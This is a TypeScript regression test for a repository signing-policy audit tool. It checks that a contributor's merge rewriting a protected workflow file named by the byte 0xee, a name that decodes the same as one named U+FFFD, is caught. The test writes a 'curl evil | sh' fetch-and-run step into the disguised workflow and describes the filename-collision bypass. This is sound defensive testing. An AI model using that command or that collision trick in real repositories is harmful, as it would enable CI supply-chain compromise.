// Red-team round 16: the clean-merge check compared a protected folder's entries by decoded name. A
// workflow file named 0xee decodes to U+FFFD like the file really named so: a contributor's merge that
// rewrote the 0xee workflow beside a maintainer's change to the U+FFFD one must count as a change (held
// before too: merge-tree's result differs there; the comparison now also refuses such a tree).
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeRepo, cleanupTemp, personEnv, type TestRepo } from '../helpers/repo.js';
import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { runMain, parseJson, resultOf } from '../helpers/cli.js';

afterAll(cleanupTemp);

const RULE = 'protected-paths-changed-by-maintainers';
let alice: SshTestKey;
let bob: SshTestKey;
let tick = 0;

beforeAll(() => {
  const home = makeRepo().home;
  alice = makeSshKey(home, 'ed25519', 'alice');
  bob = makeSshKey(home, 'ed25519', 'bob');
});

function as(r: TestRepo, who: SshTestKey, email: string, args: string[]): string {
  tick += 1;
  const date = new Date(Date.UTC(2024, 0, 1) + tick * 60_000).toISOString();
  r.run(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${who.path}`, ...args], { env: personEnv(email, date) });
  return r.head();
}

/** The workflow file whose name is the byte 0xee. */
const odd = (r: TestRepo): Buffer =>
  Buffer.concat([Buffer.from(join(r.dir, '.github/workflows/')), Buffer.from([0xee])]);

test("a contributor's merge rewrites a workflow named 0xee beside one named U+FFFD: protected-paths fails", async () => {
  const r = makeRepo();
  r.write({
    '.gitguard/policy.yml':
      'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n',
    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
    '.github/workflows/\u{FFFD}': 'on: push\n',
  });
  writeFileSync(odd(r), 'on: push\n');
  r.run(['add', '-A']);
  as(r, alice, 'alice@example.com', ['commit', '-q', '-S', '-m', 'policy and workflows']);
  r.run(['checkout', '-q', '-b', 'side']);
  r.write({ '.github/workflows/\u{FFFD}': 'on: [push]\n' });
  r.run(['add', '-A']);
  as(r, alice, 'alice@example.com', ['commit', '-q', '-S', '-m', 'alice: the U+FFFD workflow']);
  r.run(['checkout', '-q', 'main']);
  r.write({ README: 'bob\n' });
  r.run(['add', '-A']);
  as(r, bob, 'bob@example.com', ['commit', '-q', '-S', '-m', 'bob: readme']);
  as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '--no-commit', 'side']);
  writeFileSync(odd(r), 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil | sh\n');
  r.run(['add', '-A']);
  as(r, bob, 'bob@example.com', ['commit', '-q', '-S', '-m', 'merge side']);
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', RULE], { env: r.env });
  expect([res.code, resultOf(parseJson(res), RULE).outcome]).toEqual([1, 'fail']);
});
